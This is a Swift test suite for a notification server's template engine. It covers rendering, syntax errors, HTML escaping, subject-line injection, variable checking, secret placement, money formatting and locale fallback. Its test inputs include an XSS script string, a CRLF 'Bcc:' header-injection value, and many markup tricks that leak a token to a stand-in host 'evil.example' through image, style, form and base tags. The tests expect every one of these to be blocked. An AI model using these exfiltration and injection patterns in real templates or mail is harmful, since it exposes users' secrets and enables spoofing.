import Foundation
import GravityContracts
import NotificationAPI
import Testing
@testable import NotificationServer

@Suite struct TemplateLanguageTests {
  private static func write(
    _ source: String, _ data: JSONObject, _ target: TemplateRenderer.Target = .text, locale: String = "en"
  ) throws -> String {
    try TemplateRenderer.render(try TemplateParser.parse(source), target, data, locale: locale)
  }

  private static func fault(_ source: String, _ data: JSONObject = [:]) -> String? {
    do {
      _ = try write(source, data)
      return nil
    } catch { return (error as? TemplateFault)?.code ?? "\(error)" }
  }

  @Test("values, choices and loops are written, in one another too")
  func writes() throws {
    let data: JSONObject = [
      "a": "x", "n": .integer(-7), "yes": true, "no": false, "zero": .integer(0), "empty": "", "none": .array([]),
      "deep": .object(["er": .object(["est": "!"])]),
      "list": .array([
        .object(["name": "p", "tags": .array(["1", "2"])]), .object(["name": "q", "tags": .array([])]),
      ]),
    ]
    let cases = [
      ("", ""), ("plain { } }} text", "plain { } }} text"), ("{{a}}{{ a }}", "xx"), ("{{n}}", "-7"),
      ("{{deep.er.est}}", "!"), ("{{#if yes}}1{{else}}2{{/if}}", "1"), ("{{#if no}}1{{else}}2{{/if}}", "2"),
      ("{{#if zero}}1{{/if}}{{#if empty}}2{{/if}}{{#if none}}3{{/if}}{{#if missing.path}}4{{/if}}", ""),
      ("{{#if list}}has{{/if}}", "has"),
      ("{{#each list}}{{this.name}}{{#each this.tags}}[{{this}}]{{/each}}{{a}};{{/each}}", "p[1][2]x;qx;"),
      ("{{#each missing}}x{{/each}}", ""), ("{{#each list}}{{#if this.tags}}{{this.name}}{{/if}}{{/each}}", "p"),
    ]
    for (source, result) in cases { #expect(try Self.write(source, data) == result, "\(source)") }
  }

  @Test("what is no template is refused and says in which line")
  func syntax() throws {
    for source in [
      "{{", "{{a", "{{a}", "{{}}", "{{a}}}", "{{{a}}}", "{{a b}}", "{{#if a}}", "{{/if}}", "{{else}}",
      "{{#each a}}{{/if}}",
      "{{#if a}}{{else}}{{else}}{{/if}}", "{{#unless a}}{{/unless}}", "{{#if}}{{/if}}", "{{a..b}}", "{{.a}}", "{{1a}}",
      "{{a-b}}", "{{> other}}", "{{a\n}}", "{{é}}", "{{#if a}}{{/each}}", "{{a.b.c.d.e.f.g.h.i}}", "\0",
      "{{\(String(repeating: "a", count: 41))}}",
    ] {
      #expect(Self.fault(source) == "syntax", "\(source)")
    }
    let deep = String(repeating: "{{#if a}}", count: 9) + String(repeating: "{{/if}}", count: 9)
    #expect(Self.fault(deep) == "syntax")
    #expect(Self.fault(String(repeating: "{{#if a}}", count: 8) + String(repeating: "{{/if}}", count: 8)) == nil)
    #expect(Self.fault(String(repeating: "x", count: 65_537)) == "too_long")
    #expect(Self.fault(String(repeating: "{{#if a}}{{/if}}", count: 4_001)) == "too_long")
    do {
      _ = try TemplateParser.parse("one\ntwo\n{{three")
      Issue.record("it was taken")
    } catch { #expect(error.message.contains("line 3")) }
  }

  @Test("nothing that data hold gets out of its place in HTML")
  func escaping() throws {
    let evil = "<script>alert('x')</script>\"&`\0"
    let html = try Self.write("<p title=\"{{x}}\">{{x}}</p>", ["x": .string(evil)], .html)
    let safe = "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;&quot;&amp;&#96;"
    #expect(html == "<p title=\"\(safe)\">\(safe)</p>")
    // Written once: what looks like a template in data is text.
    #expect(try Self.write("{{x}}", ["x": "{{y}}", "y": "no"]) == "{{y}}")
    #expect(try Self.write("{{x}}", ["x": "a\0b"]) == "ab")
  }

  @Test("a subject is one line, whoever tries")
  func headers() throws {
    for evil in ["a\r\nBcc: all@example.org", "a\nb", "a\rb", "a\u{0}b", "a\u{85}b", "a\u{2028}b", "a\u{7F}b"] {
      do {
        let text = try Self.write("{{x}}", ["x": .string(evil)], .header)
        // A NUL is left out, and that leaves nothing to fear.
        #expect(evil == "a\0b" && text == "ab")
      } catch { #expect((error as? TemplateFault)?.code == "header_injection", "\(evil.debugDescription)") }
    }
    #expect(try Self.write("{{x}}", ["x": "Grüße 🎉"], .header) == "Grüße 🎉")
  }

  @Test("a long list or a missing value ends the writing, not the service")
  func bounds() throws {
    #expect(Self.fault("{{x}}") == "missing_variable")
    #expect(Self.fault("{{x.y}}", ["x": "text"]) == "missing_variable")
    #expect(Self.fault("{{x}}", ["x": .object(["a": "b"])]) == "not_a_value")
    #expect(Self.fault("{{x}}", ["x": .number(0.1)]) == "not_a_value")
    #expect(Self.fault("{{#each x}}{{/each}}", ["x": "text"]) == "not_a_list")
    let many = JSONValue.array(Array(repeating: "item", count: 1_000))
    #expect(Self.fault("{{#each x}}{{#each x}}{{this}}{{/each}}{{/each}}", ["x": many]) == "too_long")
    #expect(Self.fault("{{#each x}}\(String(repeating: "y", count: 60_000)){{/each}}", ["x": many]) == "too_long")
  }

  @Test("whatever is thrown at the parser, it answers")
  func fuzz() throws {
    var random = SeededGenerator(seed: 4_711)
    let pieces = [
      "{{", "}}", "{", "}", "#if ", "#each ", "/if", "/each", "else", "a", "a.b", "this", "this.a", ".", " ", "\n", "é",
      "🎉", "\u{301}", "\0", "<", "\"", "{{a}}", "{{#if a}}", "{{/if}}", "{{#each l}}", "{{/each}}", "{{else}}",
    ]
    let data: JSONObject = ["a": "x", "l": .array([.object(["a": "y"]), .object(["a": "z"])])]
    let variables = Dictionary(
      uniqueKeysWithValues: [
        TemplateVariable("a"), TemplateVariable("l", .list), TemplateVariable("l[].a"),
      ].map { ($0.name, $0) })
    var (taken, sound) = (0, 0)
    for _ in 0..<20_000 {
      let source = (0..<Int.random(in: 0...12, using: &random)).map { _ in pieces.randomElement(using: &random)! }
        .joined()
      guard let nodes = try? TemplateParser.parse(source) else { continue }
      taken += 1
      guard TemplateChecker.faults(in: nodes, variables, isHTML: true).isEmpty else { continue }
      sound += 1
      // What the checker lets through can be written with any data that are as declared.
      #expect(throws: Never.self) { try TemplateRenderer.render(nodes, .html, data, locale: "en") }
    }
    #expect(taken > 1_000 && sound > 500)
  }

  @Test("a text that uses what is not declared, or not always there, is found out")
  func checker() throws {
    let variables = Dictionary(
      uniqueKeysWithValues: [
        TemplateVariable("a"), TemplateVariable("maybe", required: false), TemplateVariable("flag", .boolean),
        TemplateVariable("list", .list), TemplateVariable("list[].a"),
        TemplateVariable("list[].maybe", required: false), TemplateVariable("link", .url),
      ].map { ($0.name, $0) })
    func codes(_ source: String, html: Bool = false) throws -> [String] {
      TemplateChecker.faults(in: try TemplateParser.parse(source), variables, isHTML: html).map(\.code)
    }
    #expect(try codes("{{a}}{{#if maybe}}{{maybe}}{{/if}}{{#each list}}{{this.a}}{{a}}{{/each}}") == [])
    #expect(try codes("{{#each list}}{{#if this.maybe}}{{this.maybe}}{{/if}}{{/each}}{{#if flag}}{{/if}}") == [])
    #expect(try codes("{{b}}") == ["undeclared_variable"])
    #expect(try codes("{{#if b}}{{/if}}") == ["undeclared_variable"])
    #expect(try codes("{{this.a}}") == ["undeclared_variable"])
    #expect(try codes("{{#each list}}{{this.b}}{{/each}}") == ["undeclared_variable"])
    #expect(try codes("{{maybe}}") == ["unguarded_variable"])
    #expect(try codes("{{#if maybe}}{{else}}{{maybe}}{{/if}}") == ["unguarded_variable"])
    #expect(try codes("{{#if this.maybe}}{{/if}}{{#each list}}{{this.maybe}}{{/each}}").contains("unguarded_variable"))
    #expect(try codes("{{list}}") == ["not_a_value"])
    #expect(try codes("{{flag}}") == ["not_a_value"])
    #expect(try codes("{{#each a}}{{/each}}") == ["not_a_list"])

    for (source, code) in [
      ("<a href=\"{{link}}\">", nil), ("<a href='{{a}}'>", "not_a_url"), ("<a href = \"{{a}}\">", "not_a_url"),
      ("<a HREF=\"{{#if flag}}{{a}}{{/if}}\">", "not_a_url"), ("<img src=\"{{a}}\">", "not_a_url"),
      ("<a {{#if flag}}href=\"{{else}}title=\"{{/if}}{{a}}\">", "not_a_url"),
      ("<p title={{a}}>", "unquoted_attribute"), ("<p title=\"{{a}}\">x = {{a}}</p>", nil),
      ("<SCRIPT>{{a}}</SCRIPT>", "script"), ("<style>p{}</style>", "script"),
      ("<a href=\"JavaScript:x\">", "script"), ("<p title=\">\" class={{a}}>", "unquoted_attribute"),
      ("<p {{a}}>", "unquoted_attribute"), ("<p {{a}}=\"\">", "unquoted_attribute"), ("<{{a}}>", "unquoted_attribute"),
      ("<p title=\"\"{{a}}>", "unquoted_attribute"), ("<!-- {{a}} -->", "markup"), ("<!-->{{a}}<!---->{{a}}", nil),
      ("<p OnClick=\"x\">", "script"), ("<p title=''onload=\"{{a}}\">", "script"), ("<p/onload>", "script"),
      ("<scr{{#if flag}}{{/if}}ipt>", "script"), ("<textarea><p title=\"</textarea>{{a}}\">", "markup"),
      ("<title>{{a}}</title>{{a}}", nil), ("<title><p title=\"</title>", "markup"), ("a < b {{a}}", nil),
      ("<!DOCTYPE html>{{a}}", nil), ("<img srcset=\"{{a}}\">", "not_a_url"), ("<a ping=\"x\">", "markup"),
    ] as [(String, String?)] {
      #expect(try codes(source, html: true) == (code.map { [$0] } ?? []), "\(source)")
    }
  }

  @Test("a secret stands in text, or in a link to the platform, and nowhere else")
  func secrets() throws {
    let variables = Dictionary(
      uniqueKeysWithValues: [
        TemplateVariable("token", .secret), TemplateVariable("a"), TemplateVariable("link", .url),
        TemplateVariable("flag", .boolean),
      ].map { ($0.name, $0) })
    func codes(_ source: String, html: Bool, platform: String? = "https://shop.example") throws -> [String] {
      TemplateChecker.faults(in: try TemplateParser.parse(source), variables, isHTML: html, platform: platform)
        .map(\.code)
    }
    for source in [
      "Your code: {{token}}", "Code:{{token}}.", "({{token}})", "https://shop.example/reset?token={{token}}",
      "HTTPS://SHOP.EXAMPLE/#{{token}}", "Look at https://evil.example. {{token}}",
    ] {
      #expect(try codes(source, html: false) == [], "\(source)")
      #expect(try codes("<p>\(source)</p>", html: true) == [], "\(source)")
    }
    for source in [
      "https://evil.example/?{{token}}", "evil.example/{{token}}", "{{link}}{{token}}", "me@{{token}}",
      "https://shop.example.evil.example/{{token}}", "https://shop.example@evil.example/{{token}}",
      "https://shop.example{{token}}", "{{#if flag}}https://evil.example/{{/if}}{{token}}",
      "https://shop.example/\(String(repeating: "x", count: 500)){{token}}",
    ] {
      #expect(try codes(source, html: false) == ["secret"], "\(source)")
      #expect(try codes("<p>\(source)</p>", html: true) == ["secret"], "\(source)")
      #expect(try codes("<a href=\"\(source)\">x</a>", html: true) == ["secret"], "\(source)")
    }
    for source in [
      "<a href=\"https://shop.example/reset?token={{token}}\">x</a>", "<p title=\"https://evil.example\">{{token}}</p>",
      "<a class='x' href='https://shop.example/?a=b&amp;t={{token}}&c'>x</a>", "<b>{{token}}</b>",
    ] {
      #expect(try codes(source, html: true) == [], "\(source)")
      let isLink = source.contains("shop.example")
      #expect(try codes(source, html: true, platform: nil) == (isLink ? ["secret"] : []), "\(source)")
    }
    let filler = String(repeating: "y", count: 1_000)
    for source in [
      "<img src=\"https://evil.example/?{{token}}\">", "<img src='https://shop.example/?{{token}}'>",
      "<a href=\"{{token}}\">x</a>", "<a href=\"{{link}}?{{token}}\">x</a>", "<p title=\"{{token}}\">",
      "<p style=\"background:url(https://evil.example/?{{token}})\">", "<img src=\"https://evil.example/?{{token}}",
      "<img src=\"https://evil.example/?\(filler){{token}}\">",
      "<img alt=\">\" src=\"https://evil.example/?{{token}}\">",
      "<input value=\"{{token}}\">", "<a href=\"https://shop.example/><img src='https://evil.example/?{{token}}'>\">",
      "<img alt=\"\u{301}\" src=\"https://evil.example/?{{token}}\">",
    ] {
      #expect(try codes(source, html: true) == ["secret"], "\(source)")
    }
    for source in [
      "<!--[if mso]><img src=\"https://evil.example/?{{token}}\"><![endif]-->",
      "<!--> <img src=\"https://evil.example/?--> {{token}}\">",
      "<form action=\"https://evil.example\">{{token}}</form>",
      "<base href=\"https://evil.example/\"><a href=\"x?{{token}}\">x</a>",
      "<textarea><a title=\"</textarea><img src=\"https://evil.example/?>{{token}}\">",
    ] {
      #expect(try !codes(source, html: true).isEmpty, "\(source)")
    }
  }

  @Test("amounts are written as their readers expect, to the last digit")
  func money() {
    let cases: [(Int64, String, String, String)] = [
      (1_299, "USD", "en", "12.99\u{A0}USD"), (-5, "USD", "en", "\u{2212}0.05\u{A0}USD"),
      (0, "EUR", "de", "0,00\u{A0}EUR"),
      (123_456_789, "EUR", "de-AT", "1.234.567,89\u{A0}EUR"), (1_234_567, "JPY", "en", "1,234,567\u{A0}JPY"),
      (1, "KWD", "en", "0.001\u{A0}KWD"), (12_345, "CLF", "pt-BR", "1,2345\u{A0}CLF"),
      (100_000, "EUR", "fr", "1\u{A0}000,00\u{A0}EUR"),
      (9_007_199_254_740_991, "USD", "en", "90,071,992,547,409.91\u{A0}USD"),
    ]
    for (amount, code, locale, text) in cases {
      #expect(MoneyFormat(locale: locale).text(Money(amount, Currency(code)!)!) == text)
    }
    #expect(MoneyFormat(locale: "en").text(["amount": .integer(1), "currency": "XXX"]) == nil)
  }

  @Test("a locale falls back by its parts, and to the default at the end")
  func locales() throws {
    #expect(LocaleTag("PT-br")?.fallbacks == ["pt-BR", "pt"])
    #expect(LocaleTag("zh-hant-tw")?.fallbacks == ["zh-Hant-TW", "zh-Hant", "zh"])
    #expect(LocaleTag("de-u-co-phonebk")?.fallbacks == ["de-u-CO-phonebk", "de-u-CO", "de"])
    for wrong in ["", "e", "english", "en_US", "en-", "-en", "en-toolongpart", "1a", "en-\n"] {
      #expect(LocaleTag(wrong) == nil, "\(wrong)")
    }
    let content = TemplateContent(
      defaultLocale: "en",
      texts: ["en", "pt", "de-AT"].map { TemplateText(locale: $0, subject: $0, text: $0) })
    let template = try CompiledTemplate("x", version: 1, content)
    for (asked, served) in [
      ("pt-BR", "pt"), ("pt", "pt"), ("de-AT", "de-AT"), ("de", "en"), ("de-CH", "en"), ("fr", "en"), ("?!", "en"),
      (nil, "en"),
    ] as [(String?, String)] {
      #expect(template.text(for: asked).locale == served)
    }
  }

  @Test("every built-in template has its two locales and can be written in both")
  func builtIn() throws {
    #expect(
      BuiltInTemplates.names == [
        "account.deletion_cancelled", "account.deletion_requested", "auth.already_registered",
        "auth.api_key_created", "auth.email_change",
        "auth.email_changed", "auth.email_replaced", "auth.email_wanted", "auth.identity_linked",
        "auth.passkey_added", "auth.passkey_removed", "auth.recovery", "auth.recovery_code_used",
        "auth.second_factor_added", "auth.second_factor_removed", "auth.verification",
        "export.ready", "order.canceled", "order.confirmed", "order.refunded", "password.changed", "sign_in.suspicious",
        "team.invite", "webhook.disabled", "welcome",
      ])
    for template in try BuiltInTemplates.compiled().values {
      #expect(template.texts.keys.sorted() == ["de", "en"])
      for locale in ["de", "en"] {
        let data = TemplateData.examples(template.variables + CompiledTemplate.common)
        let message = try template.render(data, locale: locale)
        #expect(!message.subject.isEmpty && message.text.contains("Ada Lovelace") && message.html != nil)
        #expect(!message.text.contains("{{") && message.locale == locale)
        // Whoever has no name is greeted all the same.
        var nameless = data
        nameless.members["recipient"] = .object(["email": "x@example.org"])
        #expect(throws: Never.self) { try template.render(nameless, locale: locale) }
      }
    }
  }
}

/// SplitMix64: the same numbers from the same seed.
struct SeededGenerator: RandomNumberGenerator {
  private var state: UInt64
  init(seed: UInt64) { state = seed }

  mutating func next() -> UInt64 {
    state &+= 0x9E37_79B9_7F4A_7C15
    var z = state
    z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
    z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
    return z ^ (z >> 31)
  }
}
